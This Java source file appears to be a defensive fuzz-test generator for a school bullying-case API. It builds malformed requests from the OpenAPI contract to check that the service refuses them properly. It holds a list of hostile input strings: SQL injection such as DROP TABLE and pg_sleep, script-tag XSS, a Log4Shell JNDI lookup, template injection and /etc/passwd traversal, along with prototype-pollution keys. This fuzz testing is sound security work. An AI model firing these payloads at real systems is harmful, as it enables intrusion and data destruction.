package nl.pestprotocol.hostile;

import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.UUID;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.dataformat.yaml.YAMLMapper;

/**
 * Generates hostile requests from the OpenAPI contract: for every operation a plausible request is
 * built from its schema, then broken in one of many ways. Everything derives from one seed, so a
 * run can be replayed exactly.
 */
final class RequestGenerator {

    record Operation(String method, String path, JsonNode requestSchema, List<String> queryParams) {
    }

    /**
     * {@code accept}: the Accept header to send (null: application/json). {@code rawHeader}: a header line
     * HTTP clients refuse to send, so the request goes over a plain socket. {@code expected}: the one status
     * the service must answer (0: any that is no 5xx). {@code refuse}: a 2xx would accept what must be refused.
     */
    record HostileRequest(String kind, String user, String method, String path, Map<String, String> query,
            String contentType, String body, String accept, String rawHeader, int expected, boolean refuse) {
        @Override
        public String toString() {
            String shownQuery = query.toString().length() > 300 ? query.toString().substring(0, 300) + "…" : query.toString();
            return kind + " as " + user + ": " + method + " " + path + " " + shownQuery + " [" + contentType + "]"
                    + (accept == null ? "" : " Accept=" + printable(accept)) + (rawHeader == null ? "" : " " + printable(rawHeader))
                    + " " + (body == null ? "" : body.length() > 300 ? body.substring(0, 300) + "…(" + body.length() + ")" : body);
        }

        private static String printable(String text) {
            StringBuilder b = new StringBuilder();
            text.codePoints().forEach(c -> b.append(c < 0x20 || c == 0x7f ? String.format("\\u%04x", c) : Character.toString(c)));
            return b.toString();
        }
    }

    /** Accept headers without JSON in them: the service must answer 406 and do nothing. */
    static final String[] REFUSED_ACCEPTS = { "garbage", "text/plain", "application/xml", "text/html", "application/problem+json",
            ";;;", "application/json;q=0", "text/*", "image/png, text/plain;q=0.5", "*/json" };
    /** Accept headers a client may send for JSON. */
    static final String[] FINE_ACCEPTS = { "", "*/*", "application/*", "application/json; charset=utf-8",
            "text/plain;q=0.9, application/json;q=0.1" };
    /** Dates no RFC 3339 full-date within 1900–9999, and date-times the same or without a zone. */
    static final String[] BAD_DATES = { "+999999999-12-31", "-4713-01-01", "+10000-01-01", "0000-01-01", "1899-12-31",
            "2026-02-30", "-999999999-01-01", "2026-1-1" };
    static final String[] BAD_DATE_TIMES = { "+1000000000-01-01T00:00:00Z", "-999999999-01-01T00:00:00Z", "+10000-01-01T00:00:00Z",
            "1899-12-31T23:59:59Z", "2026-11-02T10:00:00", "2026-11-02 10:00:00Z", "-4713-01-01T00:00:00Z" };
    static final String[] FAR_INSTANTS = { "+1000000000-01-01T00:00:00Z", "-999999999-01-01T00:00:00Z", "+10000-01-01T00:00:00Z",
            "-4713-01-01T00:00:00Z", "1000-01-01T00:00:00Z" };

    static final String[] FRAGMENTS = { "' OR '1'='1", "'; DROP TABLE bullying_case; --", "\" OR \"\"=\"",
            "1; SELECT pg_sleep(5)--", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "${jndi:ldap://x/a}",
            "{{7*7}}", "../../../../etc/passwd", "%00", "\u0000", "\uD83D\uDE00 emoji", "Robert'); DROP TABLE student;--",
            "\\u0000\\", "admin'--", "1 UNION SELECT username FROM staff" };
    private static final String[] USERS = { "mentor1", "mentor1", "lc1", "oc1", "oc1", "beheer1", "integrator" };
    private static final String[] KINDS = { "wrong-type", "missing-required", "extra-property", "huge-string",
            "deep-nesting", "invalid-format", "unknown-enum", "injection", "malformed-json", "wrong-content-type",
            "hostile-path", "hostile-query", "plausible", "date-out-of-range", "number-for-enum", "refused-accept",
            "fine-accept", "forged-cursor", "long-query", "header-control-char" };

    private final JsonNode contract;
    private final List<Operation> operations = new ArrayList<>();
    private final Random random;
    private final List<Map<String, String>> contexts;
    private Map<String, String> realIds;
    private final ObjectMapper json = new ObjectMapper();

    /** {@code contexts}: ids of real records (one map per case walked into a step), by path-parameter name. */
    RequestGenerator(Path contractFile, long seed, List<Map<String, String>> contexts) throws Exception {
        this.contract = new YAMLMapper().readTree(contractFile.toFile());
        this.random = new Random(seed);
        this.contexts = contexts;
        this.realIds = contexts.get(0);
        // paths are relative to the server URL (/api/v1)
        String server = contract.at("/servers/0/url").asText("");
        contract.get("paths").fields().forEachRemaining(p -> p.getValue().fields().forEachRemaining(m -> {
            JsonNode op = m.getValue();
            JsonNode schema = op.at("/requestBody/content/application~1json/schema");
            List<String> query = new ArrayList<>();
            op.path("parameters").forEach(param -> {
                if (param.path("in").asText().equals("query")) {
                    query.add(param.path("name").asText());
                }
            });
            operations.add(new Operation(m.getKey().toUpperCase(), server + p.getKey(), schema.isMissingNode() ? null : schema, query));
        }));
    }

    List<Operation> operations() {
        return operations;
    }

    HostileRequest next(int index) {
        Operation op = operations.get(index % operations.size());
        realIds = contexts.get(random.nextInt(contexts.size()));
        String kind = KINDS[random.nextInt(KINDS.length)];
        String user = USERS[random.nextInt(USERS.length)];
        String path = fillPath(op.path(), kind.equals("hostile-path"));
        Map<String, String> query = new java.util.TreeMap<>();
        for (String name : op.queryParams()) {
            if (random.nextBoolean()) {
                query.put(name, kind.equals("hostile-query") ? hostileString() : plausibleQuery(name));
            }
        }
        if (kind.equals("hostile-query") && query.isEmpty()) {
            query.put(op.queryParams().isEmpty() ? "unexpected" : op.queryParams().get(0), hostileString());
        }
        String accept = null;
        String rawHeader = null;
        int expected = 0;
        boolean refuse = false;
        switch (kind) {
            case "refused-accept" -> {
                accept = REFUSED_ACCEPTS[random.nextInt(REFUSED_ACCEPTS.length)];
                expected = 406;
            }
            case "fine-accept" -> accept = FINE_ACCEPTS[random.nextInt(FINE_ACCEPTS.length)];
            case "long-query" -> {
                query.put(op.queryParams().isEmpty() ? "filler" : op.queryParams().get(0), "q".repeat(5000 + random.nextInt(20000)));
                expected = 414;
            }
            case "header-control-char" -> {
                char[] controls = { '\u0000', '\u0001', '\u0007', '\u000b', '\u000c', '\u001b', '\u007f' };
                String[] names = { "X-Note", "Accept", "If-Match", "X-Request-Id", "Content-Language" };
                rawHeader = names[random.nextInt(names.length)] + ": a" + controls[random.nextInt(controls.length)] + "b";
                expected = 400;
            }
            case "forged-cursor" -> query.put("cursor", forgedCursor());
            case "date-out-of-range" -> {
                for (String name : op.queryParams()) {
                    if (name.startsWith("opened")) {
                        query.put(name, BAD_DATES[random.nextInt(BAD_DATES.length)]);
                        refuse = true;
                    }
                }
            }
            default -> {
                // the body carries the attack
            }
        }
        if (op.requestSchema() == null) {
            return new HostileRequest(kind, user, op.method(), path, query, null, null, accept, rawHeader, expected, refuse);
        }
        JsonNode body = plausible(op.requestSchema(), null, 0);
        String contentType = "application/json";
        String text;
        switch (kind) {
            case "wrong-type" -> text = write(replaceSomewhere(body, wrongType()));
            case "missing-required" -> text = write(removeRequired(body, op.requestSchema()));
            case "extra-property" -> text = write(withExtra(body));
            case "huge-string" -> text = write(replaceSomewhere(body, JsonNodeFactory.instance.textNode(huge())));
            case "deep-nesting" -> {
                // written by hand: Jackson itself refuses to write more than 1,000 levels
                int levels = 1500 + random.nextInt(3000);
                text = write(replaceSomewhere(body, JsonNodeFactory.instance.textNode("__DEEP__")))
                        .replace("\"__DEEP__\"", "[".repeat(levels) + "\"bodem\"" + "]".repeat(levels));
            }
            case "invalid-format" -> text = write(replaceSomewhere(body, JsonNodeFactory.instance.textNode(
                    random.nextBoolean() ? "2026-13-45" : "not-a-uuid-" + random.nextInt())));
            case "unknown-enum" -> text = write(replaceSomewhere(body, JsonNodeFactory.instance.textNode("NIET_BESTAAND")));
            case "injection" -> text = write(replaceSomewhere(body, JsonNodeFactory.instance.textNode(
                    FRAGMENTS[random.nextInt(FRAGMENTS.length)])));
            case "malformed-json" -> text = malformed(write(body));
            case "wrong-content-type" -> {
                String[] types = { "text/plain", "application/xml", "application/x-www-form-urlencoded", "image/png" };
                contentType = types[random.nextInt(types.length)];
                text = random.nextBoolean() ? write(body) : "<xml>" + hostileString() + "</xml>";
            }
            case "date-out-of-range" -> {
                List<JsonPointerTarget> dates = new ArrayList<>();
                collect(op.requestSchema(), body, null, -1, null, dates, "date");
                if (!dates.isEmpty()) {
                    JsonPointerTarget target = dates.get(random.nextInt(dates.size()));
                    String[] bad = target.format().equals("date") ? BAD_DATES : BAD_DATE_TIMES;
                    target.set(JsonNodeFactory.instance.textNode(bad[random.nextInt(bad.length)]));
                    refuse = true;
                }
                text = write(body);
            }
            case "number-for-enum" -> {
                List<JsonPointerTarget> enums = new ArrayList<>();
                collect(op.requestSchema(), body, null, -1, null, enums, "enum");
                if (!enums.isEmpty()) {
                    JsonPointerTarget target = enums.get(random.nextInt(enums.size()));
                    target.set(random.nextBoolean() ? JsonNodeFactory.instance.numberNode(random.nextInt(4))
                            : JsonNodeFactory.instance.textNode(Integer.toString(random.nextInt(4))));
                    refuse = true;
                }
                text = write(body);
            }
            default -> text = write(body);
        }
        return new HostileRequest(kind, user, op.method(), path, query, contentType, text, accept, rawHeader, expected, refuse);
    }

    /** A value in the body that {@link #set} replaces, with the schema format that made it. */
    private record JsonPointerTarget(JsonNode parent, String field, int index, String format) {
        void set(JsonNode value) {
            if (parent instanceof ObjectNode o) {
                o.set(field, value);
            } else if (parent instanceof ArrayNode a) {
                a.set(index, value);
            }
        }
    }

    /** Walks body and schema together, collecting the dates and date-times ("date") or enum values ("enum"). */
    private void collect(JsonNode schemaRef, JsonNode value, JsonNode parent, int index, String field,
            List<JsonPointerTarget> into, String what) {
        JsonNode schema = resolve(schemaRef);
        if (value == null || value.isNull()) {
            return;
        }
        if (parent != null && value.isTextual()) {
            String format = schema.path("format").asText("");
            if (what.equals("date") && (format.equals("date") || format.equals("date-time"))) {
                into.add(new JsonPointerTarget(parent, field, index, format));
            } else if (what.equals("enum") && schema.has("enum")) {
                into.add(new JsonPointerTarget(parent, field, index, "enum"));
            }
            return;
        }
        if (value instanceof ObjectNode o) {
            schema.path("properties").fields().forEachRemaining(p -> collect(p.getValue(), o.get(p.getKey()), o, -1, p.getKey(),
                    into, what));
        } else if (value instanceof ArrayNode a) {
            for (int i = 0; i < a.size(); i++) {
                collect(schema.path("items"), a.get(i), a, i, null, into, what);
            }
        }
    }

    private String forgedCursor() {
        String key = switch (random.nextInt(4)) {
            case 0 -> FAR_INSTANTS[random.nextInt(FAR_INSTANTS.length)] + "|" + UUID.randomUUID();
            case 1 -> "2026-11-02T10:00:00Z|" + hostileString();
            case 2 -> Long.toString(random.nextLong());
            default -> hostileString();
        };
        return java.util.Base64.getUrlEncoder().withoutPadding().encodeToString(key.getBytes(java.nio.charset.StandardCharsets.UTF_8));
    }

    private String fillPath(String template, boolean hostile) {
        String path = template;
        while (path.contains("{")) {
            int start = path.indexOf('{');
            int end = path.indexOf('}', start);
            String name = path.substring(start + 1, end);
            String value;
            if (hostile && random.nextInt(3) > 0) {
                value = java.net.URLEncoder.encode(hostileString(), java.nio.charset.StandardCharsets.UTF_8);
            } else if (random.nextInt(4) == 0) {
                value = UUID.randomUUID().toString();
            } else {
                value = realIds.getOrDefault(name, UUID.randomUUID().toString());
            }
            path = path.substring(0, start) + value + path.substring(end + 1);
        }
        return path;
    }

    private String plausibleQuery(String name) {
        return switch (name) {
            case "limit" -> Integer.toString(random.nextInt(120) - 5);
            case "step" -> random.nextBoolean() ? "PLAN" : "FOO";
            case "level" -> "PM_2";
            case "openedFrom", "openedTo" -> random.nextBoolean() ? "2026-01-01" : "01-01-2026";
            case "cursor" -> random.nextBoolean() ? "AAAA" : forgedCursor();
            default -> realIds.getOrDefault(name, "1A-01");
        };
    }

    private JsonNode resolve(JsonNode schema) {
        JsonNode s = schema;
        while (s.has("$ref")) {
            String ref = s.get("$ref").asText().replace("#/components/schemas/", "");
            s = contract.at("/components/schemas/" + ref);
        }
        return s;
    }

    /** A value that follows the schema, with real ids where the name says it is one. */
    private JsonNode plausible(JsonNode schemaRef, String name, int depth) {
        JsonNode schema = resolve(schemaRef);
        JsonNodeFactory f = JsonNodeFactory.instance;
        if (schema.has("enum")) {
            return schema.get("enum").get(random.nextInt(schema.get("enum").size()));
        }
        String type = schema.path("type").isArray() ? schema.path("type").get(0).asText() : schema.path("type").asText("object");
        switch (type) {
            case "object" -> {
                ObjectNode o = f.objectNode();
                if (schema.has("additionalProperties") && !schema.has("properties")) {
                    o.put("DOOR_WIE", "Twee klasgenoten");
                    return o;
                }
                if (depth > 4) {
                    return o;
                }
                schema.path("properties").fields().forEachRemaining(p -> o.set(p.getKey(), plausible(p.getValue(), p.getKey(), depth + 1)));
                return o;
            }
            case "array" -> {
                ArrayNode a = f.arrayNode();
                if (name != null && name.toLowerCase().contains("student") || "partyIds".equals(name)) {
                    a.add(realIds.get("studentId"));
                } else {
                    a.add(plausible(schema.path("items"), null, depth + 1));
                }
                return a;
            }
            case "integer" -> {
                return f.numberNode(1);
            }
            case "boolean" -> {
                return f.booleanNode(true);
            }
            default -> {
                String format = schema.path("format").asText("");
                if (format.equals("date")) {
                    return f.textNode("2026-11-02");
                }
                if (format.equals("date-time")) {
                    return f.textNode("2026-11-02T10:00:00Z");
                }
                if (name != null && (name.equals("studentId") || name.endsWith("Id") && realIds.containsKey(name))) {
                    return f.textNode(realIds.getOrDefault(name, realIds.get("studentId")));
                }
                if (name != null && name.endsWith("Id")) {
                    return f.textNode("mw-mentor1");
                }
                return f.textNode("tekst " + random.nextInt(1000));
            }
        }
    }

    private JsonNode wrongType() {
        JsonNodeFactory f = JsonNodeFactory.instance;
        return switch (random.nextInt(5)) {
            case 0 -> f.numberNode(random.nextLong());
            case 1 -> f.booleanNode(false);
            case 2 -> f.arrayNode().add(1).add("x");
            case 3 -> f.objectNode().put("nested", true);
            default -> f.numberNode(1.5e308);
        };
    }

    /** Replaces the value of one property somewhere in the tree (or the whole body). */
    private JsonNode replaceSomewhere(JsonNode body, JsonNode value) {
        if (!(body instanceof ObjectNode o) || o.isEmpty() || random.nextInt(8) == 0) {
            return value;
        }
        List<String> names = new ArrayList<>();
        o.fieldNames().forEachRemaining(names::add);
        String name = names.get(random.nextInt(names.size()));
        JsonNode child = o.get(name);
        if (child instanceof ObjectNode && random.nextBoolean()) {
            o.set(name, replaceSomewhere(child, value));
        } else {
            o.set(name, value);
        }
        return o;
    }

    private JsonNode removeRequired(JsonNode body, JsonNode schemaRef) {
        JsonNode required = resolve(schemaRef).path("required");
        if (body instanceof ObjectNode o && required.size() > 0) {
            o.remove(required.get(random.nextInt(required.size())).asText());
        }
        return body;
    }

    private JsonNode withExtra(JsonNode body) {
        if (body instanceof ObjectNode o) {
            String[] names = { "step", "level", "id", "version", "openedBy", "isAdmin", "__proto__", "constructor", hostileString() };
            o.put(names[random.nextInt(names.length)], random.nextBoolean() ? "AFGESLOTEN" : "true");
        }
        return body;
    }

    private String huge() {
        int size = random.nextInt(4) == 0 ? 1_100_000 : 10_001 + random.nextInt(60_000);
        return "A".repeat(size);
    }

    private String malformed(String valid) {
        return switch (random.nextInt(6)) {
            case 0 -> valid.substring(0, Math.max(1, valid.length() / 2));
            case 1 -> valid.replace("\"", "'");
            case 2 -> valid + "}}}";
            case 3 -> "{\"summary\": \"\uDC00\"}";
            case 4 -> "";
            default -> "\u0000\u0001\u00ff" + valid;
        };
    }

    private String hostileString() {
        return FRAGMENTS[random.nextInt(FRAGMENTS.length)] + (random.nextBoolean() ? "" : "x".repeat(random.nextInt(600)));
    }

    private String write(JsonNode node) {
        try {
            return json.writeValueAsString(node);
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
    }

    static Iterator<String> kinds() {
        return List.of(KINDS).iterator();
    }
}
